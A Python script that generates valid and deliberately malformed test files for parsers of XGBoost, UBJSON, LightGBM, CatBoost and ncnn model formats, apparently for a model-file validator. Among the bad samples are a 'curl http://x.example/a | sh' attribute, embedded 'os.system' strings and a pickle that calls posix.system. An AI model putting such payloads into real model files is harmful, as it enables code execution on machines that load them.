#!/usr/bin/python3
"""Writes the samples of boosted trees and ncnn: tests/corpus/{xgboost,ubjson,xgboost_binary,lightgbm,catboost,ncnn}."""

import base64
import json
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))


def write(path, data):
    path = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# --- XGBoost: a root with two leaves


def tree(**change):
    t = {
        "left_children": [1, -1, -1],
        "parents": [2147483647, 0, 0],
        "right_children": [2, -1, -1],
        "split_conditions": [0.5, -1.0, 1.0],
        "split_indices": [1, 0, 0],
        "tree_param": {"num_feature": "2", "num_nodes": "3", "size_leaf_vector": "1"},
    }
    t.update(change)
    return {k: t[k] for k in sorted(t) if t[k] is not None}


def learner(trees, booster="gbtree", objective="reg:squarederror", attributes=None, **change):
    model = {"gbtree_model_param": {"num_trees": str(len(trees))}, "tree_info": [0] * len(trees), "trees": trees}
    model.update(change)
    return {
        "learner": {
            "attributes": attributes or {},
            "gradient_booster": {"model": model, "name": booster},
            "learner_model_param": {"num_class": "0", "num_feature": "2", "num_target": "1"},
            "objective": {"name": objective},
        },
        "version": [3, 0, 0],
    }


BAD = {
    "circle": learner([tree(left_children=[1, 0, -1], right_children=[2, 0, -1])]),
    "outside": learner([tree(left_children=[7, -1, -1])]),
    "twice": learner([tree(right_children=[1, -1, -1])]),
    "one_child": learner([tree(right_children=[-1, -1, -1])]),
    "feature": learner([tree(split_indices=[2, 0, 0])]),
    "parent": learner([tree(parents=[2147483647, 2, 0])]),
    "count": learner([tree(tree_param={"num_nodes": "900", "num_feature": "2"})]),
    "no_count": learner([tree(tree_param={"num_nodes": "-3", "num_feature": "2"})]),
    "fraction": learner([tree(left_children=[1.5, -1, -1])]),
    "categories": learner([tree(categories=[1], categories_segments=[0], categories_sizes=[5])]),
    "trees": learner([tree()], gbtree_model_param={"num_trees": "5"}),
    "infos": learner([tree()], tree_info=[0, 0]),
    "output": learner([tree()], tree_info=[3]),
    "features": learner([tree(split_indices=[8, 0, 0], tree_param={"num_nodes": "3", "num_feature": "9"})]),
    "no_features": learner([tree(split_indices=[8, 0, 0], tree_param={"num_nodes": "3", "num_feature": "0"})]),
    "custom": learner([tree()], objective="acme:loss", booster="acme"),
    "program": learner([tree()], attributes={"note": "import os; os.system('id')"}),
}


def xgboost():
    write("xgboost/good/small.json", json.dumps(learner([tree(), tree()], attributes={"note": "made by hand"})))
    write("xgboost/good/spaced.json", json.dumps(learner([tree()]), indent=1))
    write("xgboost/bad/infinite.json", json.dumps(learner([tree(split_conditions=[0.5, float("nan"), float("inf")])])))
    write("xgboost/bad/cut.json", json.dumps(learner([tree()]))[:400])
    for name, model in BAD.items():
        write("xgboost/bad/%s.json" % name, json.dumps(model))


# --- UBJSON, as XGBoost writes it: lengths of eight bytes; numbers as typed lists


def ub_length(n):
    return b"L" + struct.pack(">q", n)


def ub_text(s):
    return ub_length(len(s)) + s.encode()


def ub(value):
    if isinstance(value, dict):
        return b"{" + b"".join(ub_text(k) + ub(v) for k, v in value.items()) + b"}"
    if isinstance(value, list) and value and all(isinstance(v, int) for v in value):
        return b"[$l#" + ub_length(len(value)) + struct.pack(">%di" % len(value), *value)
    if isinstance(value, list) and value and all(isinstance(v, (int, float)) for v in value):
        return b"[$d#" + ub_length(len(value)) + struct.pack(">%df" % len(value), *value)
    if isinstance(value, list):
        return b"[#" + ub_length(len(value)) + b"".join(ub(v) for v in value)
    if isinstance(value, bool):
        return b"T" if value else b"F"
    if isinstance(value, int):
        return b"l" + struct.pack(">i", value)
    if isinstance(value, float):
        return b"D" + struct.pack(">d", value)
    return b"S" + ub_text(value)


def ubjson():
    good = learner([tree()], attributes={"note": "made by hand"})
    good["learner"]["feature_names"] = ["age", "weight"]
    write("ubjson/good/small.ubj", ub(good))
    write("ubjson/good/pickled.ubj", ub({"Config": {"x": "1"}, "Model": learner([tree()])}))
    write(
        "ubjson/good/plain.ubj",
        b"{i\x03oneU\x01i\x04listSi\x05plain[".replace(b"Si\x05plain[", b"[")
        + b"NSi\x02abi\xffU\xffI\x01\x00l\x00\x00\x00\x01L" + bytes(8) + b"d" + bytes(4) + b"D" + bytes(8)
        + b"ZTFCxHi\x0212]i\x03obj{$i#i\x01i\x01k\x05i\x04open{}}",
    )
    write("ubjson/bad/circle.ubj", ub(BAD["circle"]))
    write("ubjson/bad/count.ubj", b"{i\x07learner[$d#L" + struct.pack(">q", 2**60) + bytes(64) + b"}")
    write("ubjson/bad/negative.ubj", b"{i\x07learner[$d#L" + struct.pack(">q", -5) + bytes(64) + b"}")
    write("ubjson/bad/empty_types.ubj", b"{i\x07learner[$Z#L" + struct.pack(">q", 2**40) + b"}")
    write("ubjson/bad/deep.ubj", b"{i\x07learner" + b"[" * 80 + b"]" * 80 + b"}")
    write("ubjson/bad/type.ubj", b"{i\x07learner[$l]" + bytes(16) + b"}")
    write("ubjson/bad/never.ubj", b"{i\x07learner{i\x01a?" + b"}}")
    write("ubjson/bad/text.ubj", b"{i\x07learner{i\x01aSl\x00\x00\x00\x7fabc}}")
    write("ubjson/bad/cut.ubj", ub(good)[:300])
    write("ubjson/bad/trailing.ubj", ub(good) + b"more of it, behind the end")
    write("ubjson/bad/infinite.ubj", ub(learner([tree(split_conditions=[0.5, float("inf"), 1.0])])))
    pickle = b"\x80\x04\x95\x21\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    blob = pickle + bytes(400)
    write("ubjson/bad/pickle.ubj", b"{i\x07learner[$U#L" + struct.pack(">q", len(blob)) + blob + b"}")


# --- XGBoost, binary


def text(s):
    return struct.pack("<Q", len(s)) + s.encode()


def learner_param(classes=0, attributes=0, metrics=0, major=1):
    return struct.pack("<fIiiiII", 0.5, 2, classes, attributes, metrics, major, 7) + bytes(108)


def node(parent, left, right, split, value):
    return struct.pack("<iiiIf", parent, left, right, split, value)


def binary_tree(nodes, count=None, vector=0):
    head = struct.pack("<iiiiii", 1, len(nodes) if count is None else count, 0, 0, 2, vector) + bytes(124)
    return head + b"".join(nodes) + bytes(16 * len(nodes)) + (struct.pack("<Qf", 1, 1.0) if vector else b"")


NODES3 = [node(-1, 1, 2, 1 | 1 << 31, 0.5), node(-(2**31), -1, -1, 0, -1.0), node(0, -1, -1, 0, 1.0)]


def binary(trees, infos=None, booster="gbtree", objective="reg:squarederror", count=None, attributes=(), dart=(), tail=b"", **p):
    infos = [0] * len(trees) if infos is None else infos
    out = learner_param(attributes=len(attributes), **p) + text(objective) + text(booster)
    out += struct.pack("<i", len(trees) if count is None else count) + bytes(156) + b"".join(trees)
    out += struct.pack("<%di" % len(infos), *infos)
    if booster == "dart":
        out += struct.pack("<Q%df" % len(dart), len(dart), *dart)
    if attributes:
        out += struct.pack("<Q", len(attributes)) + b"".join(text(k) + text(v) for k, v in attributes)
    return out + tail


def xgboost_binary():
    one = binary_tree(NODES3)
    plain = binary([one], attributes=[("note", "made by hand")])
    good, bad = "xgboost_binary/good/", "xgboost_binary/bad/"
    write(good + "plain.model", plain)
    write(good + "binf.model", b"binf" + binary([one], metrics=1, tail=struct.pack("<Q", 1) + text("rmse")))
    write(good + "dart.model", binary([one], booster="dart", dart=[1.0]))
    write(good + "vector.model", binary([binary_tree(NODES3, vector=1)]))
    write(good + "poisson.model", binary([one], objective="count:poisson", major=0, tail=text("0.7")))
    linear = learner_param() + text("reg:squarederror") + text("gblinear") + bytes(136) + struct.pack("<Q3f", 3, 1, 2, 3)
    write(good + "linear.model", linear)
    write(good + "config.bin", b"CONFIG-offset:" + struct.pack("<q", 22 + len(plain)) + plain + b'{"learner": {}}')
    write(good + "text.model", b"bs64\t" + base64.b64encode(plain) + b"\n")
    circle = [NODES3[0], node(0, 0, 2, 0, 0.0), NODES3[2]]
    write(bad + "circle.model", binary([binary_tree(circle)]))
    write(bad + "outside.model", binary([binary_tree([node(-1, 900, 2, 0, 0.0)] + NODES3[1:])]))
    write(bad + "feature.model", binary([binary_tree([node(-1, 1, 2, 9, 0.0)] + NODES3[1:])]))
    write(bad + "nodes.model", binary([binary_tree(NODES3, count=2**30)]))
    write(bad + "none.model", binary([binary_tree(NODES3, count=0)]))
    write(bad + "trees.model", binary([one], count=2**30))
    write(bad + "output.model", binary([one], infos=[5]))
    write(bad + "infinite.model", binary([binary_tree(NODES3[:2] + [node(0, -1, -1, 0, float("nan"))])]))
    write(bad + "custom.model", binary([one], objective="acme:loss"))
    write(bad + "attribute.model", binary([one], attributes=[("note", "curl http://x.example/a | sh")]))
    write(bad + "trailing.model", plain + b"this belongs to nobody")
    write(bad + "cut.model", plain[:-9])
    write(bad + "digits.model", b"bs64\t" + base64.b64encode(plain)[:-3])


# --- LightGBM

LIGHT = [
    ("num_leaves", "3"),
    ("num_cat", "1"),
    ("split_feature", "0 1"),
    ("split_gain", "1 1"),
    ("threshold", "0.5 0"),
    ("decision_type", "2 1"),
    ("left_child", "1 -1"),
    ("right_child", "-3 -2"),
    ("leaf_value", "-1 0.25 1"),
    ("cat_boundaries", "0 1"),
    ("cat_threshold", "5"),
    ("is_linear", "0"),
    ("shrinkage", "1"),
]


def light_tree(number=0, **change):
    lines = ["Tree=%d" % number] + ["%s=%s" % (k, change.get(k, v)) for k, v in LIGHT if change.get(k, v) is not None]
    return "\n".join(lines + ["%s=%s" % (k, v) for k, v in change.items() if k not in dict(LIGHT)]) + "\n\n\n"


def light(trees, sizes=None, end="end of trees\n", objective="binary sigmoid:1", names="age weight", parameters=()):
    sizes = [len(t) for t in trees] if sizes is None else sizes
    head = ["tree", "version=v4", "num_class=1", "num_tree_per_iteration=1", "label_index=0", "max_feature_idx=1"]
    head += ["objective=" + objective, "feature_names=" + names, "feature_infos=[0:1] 1:2:3"]
    head += ["tree_sizes=" + " ".join(map(str, sizes))] if sizes else []
    out = "\n".join(head) + "\n\n" + "".join(trees) + end
    out += "\nfeature_importances:\nage=2\n\nparameters:\n" + "".join("[%s: %s]\n" % p for p in parameters)
    return out + "end of parameters\n\npandas_categorical:null\n"


def lightgbm():
    one = light_tree()
    linear = light_tree(1, is_linear="1", leaf_const="1 2 3", num_features="1 0 1", leaf_features="0  1", leaf_coeff="0.5  2")
    leaf = "Tree=2\nnum_leaves=1\nnum_cat=0\nsplit_feature=\nthreshold=\nleft_child=\nright_child=\nleaf_value=1\n\n\n"
    write("lightgbm/good/small.txt", light([one], parameters=[("data", "train.txt"), ("machines", "")]))
    write("lightgbm/good/three.txt", light([one, linear, leaf]))
    write("lightgbm/good/old.txt", light([one], sizes=[], end=""))
    bad = {
        "circle": light([light_tree(left_child="0 -1")]),
        "outside": light([light_tree(left_child="9 -1")]),
        "leaf": light([light_tree(right_child="-9 -2")]),
        "leaf_twice": light([light_tree(right_child="-1 -2")]),
        "feature": light([light_tree(split_feature="0 7")]),
        "count": light([light_tree(num_leaves="900")]),
        "values": light([light_tree(leaf_value="1")]),
        "boundary": light([light_tree(cat_boundaries="0 9")]),
        "category": light([light_tree(threshold="0.5 4")]),
        "linear": light([light_tree(num_features="2 0 0", leaf_features="0 9", leaf_coeff="1 1")]),
        "linear_count": light([light_tree(num_features="2 0 0", leaf_features="0", leaf_coeff="1 1")]),
        "infinite": light([light_tree(leaf_value="nan inf 1")]),
        "sizes": light([one], sizes=[7, 8]),
        "jump": light([one, light_tree(1)], sizes=[5, 6]),
        "order": light([light_tree(4)]),
        "custom": light([one], objective="acme"),
        "names": light([one], names="age weight height"),
        "files": light([one], parameters=[("data", "/home/ann/patients.csv"), ("machines", "10.0.0.1:12400")]),
    }
    for name, data in bad.items():
        write("lightgbm/bad/%s.txt" % name, data)
    write("lightgbm/bad/cut.txt", light([one])[:300])


# --- CatBoost: a FlatBuffer by hand; every table has its vtable right before it, everything is aligned to eight bytes


class Flat:
    def __init__(self):
        self.out = bytearray(8)

    def put(self, data):
        self.out += bytes(-len(self.out) % 8)
        at = len(self.out)
        self.out += data
        return at

    def link(self, at, to):
        self.out[at : at + 4] = struct.pack("<I", to - at)

    def vector(self, code, values):
        width = struct.calcsize("<" + code)
        self.out += bytes((-len(self.out) - 4) % 8)  # so that items of eight bytes are aligned
        at = len(self.out)
        self.out += struct.pack("<I%d%s" % (len(values), code), len(values), *values)
        assert width in (4, 8)
        return at

    def string(self, s):
        return self.put(struct.pack("<I", len(s)) + s.encode() + b"\0")

    def tables(self, tables):
        at = self.put(struct.pack("<I", len(tables)) + bytes(4 * len(tables)))
        for i, t in enumerate(tables):
            self.link(at + 4 + 4 * i, self.table(t))
        return at

    def table(self, fields):
        """{id: int (a number) or a function that writes and returns a place}"""
        count = max(fields, default=-1) + 1
        vtable = struct.pack("<HH", 4 + 2 * count, 4 + 4 * count)
        vtable += b"".join(struct.pack("<H", 4 + 4 * i if i in fields else 0) for i in range(count))
        at = self.put(vtable)
        self.out += bytes(-len(self.out) % 8)
        table = len(self.out)
        self.out += struct.pack("<i", table - at) + bytes(4 * count)
        for i, value in fields.items():
            place = table + 4 + 4 * i
            if callable(value):
                self.link(place, value(self))
            else:
                self.out[place : place + 4] = struct.pack("<i", value)
        return table


def ints(*v):
    return lambda f: f.vector("i", v)


def doubles(*v):
    return lambda f: f.vector("d", v)


def string(s):
    return lambda f: f.string(s)


def cat(change=None, info=(("params", '{"depth":1}'),), parts=(), more=b"", size=None):
    trees = {
        0: 1,
        1: ints(0, 1),
        2: ints(1, 1),
        3: ints(0, 1),
        5: lambda f: f.tables([{1: 0, 3: lambda f: f.vector("f", [0.5, 1.5]), 4: string("age")}]),
        8: doubles(1, 2, 3, 4),
    }
    trees.update(change or {})
    f = Flat()
    root = {0: string("FlabuffersModel_v1"), 1: lambda f: f.table(trees)}
    root[2] = lambda f: f.tables([{0: string(k), 1: string(v)} for k, v in info])
    if parts:
        root[3] = lambda f: names(f, parts)
    f.link(0, f.table(root))
    core = bytes(f.out)
    return b"CBM1" + struct.pack("<I", len(core) if size is None else size) + core + more


def names(f, texts):
    at = f.put(struct.pack("<I", len(texts)) + bytes(4 * len(texts)))
    for i, s in enumerate(texts):
        f.link(at + 4 + 4 * i, f.string(s))
    return at


def catboost():
    steps = {1: ints(0, 1, 1), 2: ints(3), 3: ints(0), 10: ints(1 | 2 << 16, 0, 0), 11: ints(-1, 0, 1), 8: doubles(1, 2)}
    write("catboost/good/small.cbm", cat())
    write("catboost/good/steps.cbm", cat(steps))
    write("catboost/good/parts.cbm", cat(parts=["static_provider_v1"], more=bytes(40)))
    write("catboost/good/version.cbm", cat(info=[("catboost_version_info", "by someone@example.com")]))
    bad = {
        "start": cat({3: ints(0, 9)}),
        "condition": cat({1: ints(0, 77)}),
        "leaves": cat({8: doubles(1, 2)}),
        "depth": cat({2: ints(1, 60)}),
        "step": cat({**steps, 10: ints(1 | 9 << 16, 0, 0)}),
        "leaf": cat({**steps, 11: ints(-1, 0, 900)}),
        "nodes": cat({**steps, 11: ints(-1)}),
        "outputs": cat({0: 0}),
        "size": cat(size=2**31),
        "trailing": cat(more=b"this belongs to no part"),
        "program": cat(info=[("note", "import os; os.system('id')")]),
    }
    for name, data in bad.items():
        write("catboost/bad/%s.cbm" % name, data)
    write("catboost/bad/cut.cbm", cat()[:200])


# --- ncnn

GRAPH = """7767517
3 3
Input            data             0 1 data 0=4 1=4 2=3
Convolution      conv             1 1 data conv 0=2 1=3 6=54
Softmax          prob             1 1 conv prob 0=0
"""


def ncnn():
    write("ncnn/good/small.param", GRAPH)
    write("ncnn/good/dos.param", GRAPH.replace("\n", "\r\n"))
    write("ncnn/bad/layers.param", GRAPH.replace("3 3\n", "900 3\n"))
    write("ncnn/bad/blobs.param", GRAPH.replace("3 3\n", "3 1\n"))
    write("ncnn/bad/names.param", GRAPH.replace("1 1 data conv", "5 1 data conv"))
    write("ncnn/bad/numbers.param", GRAPH.replace("1 1 data conv", "x -1 data conv"))
    write("ncnn/bad/custom.param", GRAPH.replace("Softmax", "AcmeBox"))


if __name__ == "__main__":
    xgboost()
    ubjson()
    xgboost_binary()
    lightgbm()
    catboost()
    ncnn()
